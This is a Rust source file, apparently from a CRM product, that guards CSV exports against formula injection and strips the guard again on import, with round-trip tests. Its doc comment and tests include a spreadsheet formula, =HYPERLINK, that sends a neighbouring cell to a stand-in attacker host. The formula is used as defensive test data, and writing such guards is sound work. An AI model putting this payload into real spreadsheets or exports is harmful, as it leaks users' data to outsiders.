//! The formula rule of contract §6 (OWASP "CSV injection"), both ways.
//!
//! Writing: a spreadsheet opening a CSV runs a cell that starts with `=`, `+`, `-`, `@`, tab or CR as a
//! formula (`=HYPERLINK("http://evil.test/?leak="&A1,"Click")` sends a neighbouring cell away). Every CSV the
//! product writes goes through [`SafeCsvWriter`], which puts a `'` in front of such a cell, so it is shown as
//! text. `+` and `-` are left alone when the cell is a plain number (see [`is_plain_number`]), so amounts such
//! as `-12.5` stay numbers.
//!
//! Reading: every CSV and XLSX cell of an import passes [`strip_formula_guard`], which takes that `'` off again,
//! so a file the product wrote (errors.csv, an export) imports back to the values it was made from.
//!
//! The two are exact inverses for every text, including texts that already start with `'`: a guard is "one or
//! more `'` followed by one of `= @ + - tab CR LF`", writing adds one `'` to such a text and reading removes one.
//! LF is in the reading set because the CSV reader reads every CR as a line feed (`imports::reader`), so a
//! guarded CR-led cell reaches the import as `'` + LF.

use std::borrow::Cow;
use std::io::Write;

/// The guard the writer adds and the reader removes.
pub const FORMULA_GUARD: char = '\'';

/// A plain number, as the product writes numbers: an optional `-`, digits, and optionally `.` and more digits
/// (`-12.5`, `-3`, `0.25`). Nothing else counts: no `+` (a leading `+` is how phone numbers are written, and a
/// spreadsheet reading `+14155550100` turns it into the number 14155550100), no exponent, no spaces, no
/// thousands separators, no `-.5` — those cells keep their guard, which is harmless: the import takes it off.
pub fn is_plain_number(text: &str) -> bool {
    let unsigned = text.strip_prefix('-').unwrap_or(text);
    let (whole, fraction) = match unsigned.split_once('.') {
        Some((whole, fraction)) => (whole, Some(fraction)),
        None => (unsigned, None),
    };
    let digits = |part: &str| !part.is_empty() && part.bytes().all(|byte| byte.is_ascii_digit());
    digits(whole) && fraction.is_none_or(digits)
}

/// Whether a spreadsheet would run this cell as a formula.
pub fn starts_like_a_formula(cell: &str) -> bool {
    match cell.as_bytes().first() {
        Some(b'=' | b'@' | b'\t' | b'\r') => true,
        Some(b'+' | b'-') => !is_plain_number(cell),
        _ => false,
    }
}

/// Whether the cell starts with a guard: one or more `'` before a formula character (or a line feed, see the
/// module notes). `+` and `-` count whatever follows them, so `'-12.5` is read as `-12.5`.
fn starts_with_guard(cell: &str) -> bool {
    let after_quotes = cell.trim_start_matches(FORMULA_GUARD);
    after_quotes.len() < cell.len()
        && matches!(after_quotes.as_bytes().first(), Some(b'=' | b'@' | b'+' | b'-' | b'\t' | b'\r' | b'\n'))
}

/// The cell as a CSV writer must write it: with a `'` in front when it would run as a formula, or when it
/// already starts with a guard (so reading it back gives this text, not one with a `'` fewer).
pub fn guard_formula(cell: &str) -> Cow<'_, str> {
    if starts_like_a_formula(cell) || starts_with_guard(cell) {
        let mut guarded = String::with_capacity(cell.len() + 1);
        guarded.push(FORMULA_GUARD);
        guarded.push_str(cell);
        Cow::Owned(guarded)
    } else {
        Cow::Borrowed(cell)
    }
}

/// The cell as the import must read it: without the guard a writer added.
pub fn strip_formula_guard(cell: &str) -> &str {
    if starts_with_guard(cell) { &cell[FORMULA_GUARD.len_utf8()..] } else { cell }
}

/// [`strip_formula_guard`] on an owned cell, without a copy when there is nothing to strip.
pub fn strip_formula_guard_in_place(cell: &mut String) {
    if starts_with_guard(cell) {
        cell.remove(0);
    }
}

/// The one CSV writer of the product: RFC 4180 quoting, CRLF line ends (what spreadsheets expect), and every
/// cell — header names included — through [`guard_formula`]. A byte order mark, where a format wants one, is
/// the caller's to write first.
pub struct SafeCsvWriter<W: Write> {
    inner: csv::Writer<W>,
}

impl<W: Write> SafeCsvWriter<W> {
    pub fn new(output: W) -> Self {
        Self { inner: csv::WriterBuilder::new().terminator(csv::Terminator::CRLF).from_writer(output) }
    }

    pub fn write_record<I, T>(&mut self, cells: I) -> csv::Result<()>
    where
        I: IntoIterator<Item = T>,
        T: AsRef<str>,
    {
        for cell in cells {
            self.inner.write_field(guard_formula(cell.as_ref()).as_bytes())?;
        }
        self.inner.write_record(None::<&[u8]>)
    }

    pub fn flush(&mut self) -> std::io::Result<()> {
        self.inner.flush()
    }

    /// Flushes and hands the output back.
    pub fn into_inner(self) -> Result<W, csv::Error> {
        self.inner.into_inner().map_err(|error| csv::Error::from(error.into_error()))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn plain_numbers_are_signed_decimals_and_nothing_else() {
        for number in ["0", "-12.5", "-3", "12", "0.25", "-0", "007"] {
            assert!(is_plain_number(number), "{number:?} is a number");
        }
        for text in [
            "",
            "-",
            "+",
            "+5",
            "+14155550100",
            "+1 415 555 0100",
            "-2+3",
            "-1e5",
            "-.5",
            "-12.",
            "1,200",
            "- 3",
            "1.2.3",
        ] {
            assert!(!is_plain_number(text), "{text:?} is not a plain number");
        }
    }

    #[test]
    fn formula_cells_get_a_guard_and_other_cells_do_not() {
        let guarded = [
            (
                "=HYPERLINK(\"http://evil.test/?leak=\"&A1,\"Click\")",
                "'=HYPERLINK(\"http://evil.test/?leak=\"&A1,\"Click\")",
            ),
            ("=1+1", "'=1+1"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("+cmd", "'+cmd"),
            ("-2+3", "'-2+3"),
            ("+14155550100", "'+14155550100"),
            ("\tlead", "'\tlead"),
            ("\rlead", "'\rlead"),
            ("-", "'-"),
            // Already guarded texts keep their own quote: reading takes exactly one off.
            ("'=x", "''=x"),
            ("''+x", "'''+x"),
            ("'\nx", "''\nx"),
        ];
        for (cell, written) in guarded {
            assert_eq!(guard_formula(cell), written, "{cell:?}");
        }
        for cell in ["-12.5", "42", "Ada", "", " =1+1", "ann@example.com", "'quoted'", "''", "\nnote", "(415) 555-2671"]
        {
            assert!(matches!(guard_formula(cell), Cow::Borrowed(text) if text == cell), "{cell:?} is written as it is");
        }
    }

    #[test]
    fn reading_strips_one_guard_before_a_formula_character() {
        assert_eq!(strip_formula_guard("'=1+1"), "=1+1");
        assert_eq!(strip_formula_guard("'+14155550100"), "+14155550100");
        assert_eq!(strip_formula_guard("'-12.5"), "-12.5");
        assert_eq!(strip_formula_guard("'\tlead"), "\tlead");
        assert_eq!(strip_formula_guard("'\nlead"), "\nlead", "a guarded CR arrives from CSV as a line feed");
        assert_eq!(strip_formula_guard("''=x"), "'=x");
        for untouched in ["'quoted'", "'", "''", "'Ada", "O'Brien", "=not guarded", ""] {
            assert_eq!(strip_formula_guard(untouched), untouched);
        }
        let mut owned = String::from("'@SUM(A1)");
        strip_formula_guard_in_place(&mut owned);
        assert_eq!(owned, "@SUM(A1)");
    }

    #[test]
    fn every_text_comes_back_from_a_write_and_a_read_unchanged() {
        let characters = ["'", "=", "@", "+", "-", "\t", "\r", "\n", "1", ".", "a", " "];
        // Every text of up to three of those characters, which covers each branch of both rules.
        let mut texts = vec![String::new()];
        for _ in 0..3 {
            let longer: Vec<String> =
                texts.iter().flat_map(|text| characters.iter().map(move |c| format!("{text}{c}"))).collect();
            texts.extend(longer);
        }
        texts.sort();
        texts.dedup();
        assert_eq!(texts.len(), 1 + 12 + 144 + 1728);
        for text in &texts {
            let written = guard_formula(text);
            assert!(!starts_like_a_formula(&written), "{text:?} was written as {written:?}, which runs");
            assert_eq!(strip_formula_guard(&written), text, "{text:?} was written as {written:?}");
        }
    }

    #[test]
    fn an_import_reads_what_the_writer_wrote() {
        let rows = [
            vec!["first_name", "=Remarks", "notes"],
            vec!["=HYPERLINK(\"http://evil.test/?leak=\"&A1,\"Click\")", "@SUM(A1)", "\tlead"],
            vec!["+cmd", "-2+3", "-12.5"],
            vec!["'=already quoted", "+14155550100", "two\nlines"],
        ];
        let mut writer = SafeCsvWriter::new(Vec::new());
        for row in &rows {
            writer.write_record(row).expect("record");
        }
        let path = std::env::temp_dir().join(format!("crm-csv-safety-{}.csv", uuid::Uuid::new_v4()));
        std::fs::write(&path, writer.into_inner().expect("flushed")).expect("write");
        let mut header = None;
        let mut read = Vec::new();
        let result = crate::imports::reader::read_file(
            &path,
            crate::imports::reader::FileFormat::Csv,
            |found| {
                header = Some(found.names.clone());
                Ok(())
            },
            |row| {
                read.push(row.cells);
                std::ops::ControlFlow::Continue(())
            },
        );
        let _ = std::fs::remove_file(&path);
        result.expect("read");
        assert_eq!(header.expect("header"), rows[0]);
        assert_eq!(read, rows[1..]);
    }

    #[test]
    fn the_writer_guards_every_cell_and_quotes_like_rfc_4180() {
        let mut writer = SafeCsvWriter::new(Vec::new());
        writer.write_record(["row_number", "=Remarks", "notes"]).expect("header");
        writer.write_record(["3", "-12.5", "=HYPERLINK(\"x\",\"y\")"]).expect("row");
        writer.write_record(["4", "\rlead", "two\nlines"]).expect("row");
        let text = String::from_utf8(writer.into_inner().expect("flushed")).expect("utf-8");
        assert_eq!(
            text,
            "row_number,'=Remarks,notes\r\n3,-12.5,\"'=HYPERLINK(\"\"x\"\",\"\"y\"\")\"\r\n4,\"'\rlead\",\"two\nlines\"\r\n"
        );
        let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes());
        let cells: Vec<Vec<String>> = reader
            .records()
            .map(|record| record.expect("record").iter().map(|cell| strip_formula_guard(cell).to_owned()).collect())
            .collect();
        assert_eq!(cells[0], ["row_number", "=Remarks", "notes"]);
        assert_eq!(cells[1], ["3", "-12.5", "=HYPERLINK(\"x\",\"y\")"]);
        assert_eq!(cells[2], ["4", "\rlead", "two\nlines"]);
    }
}
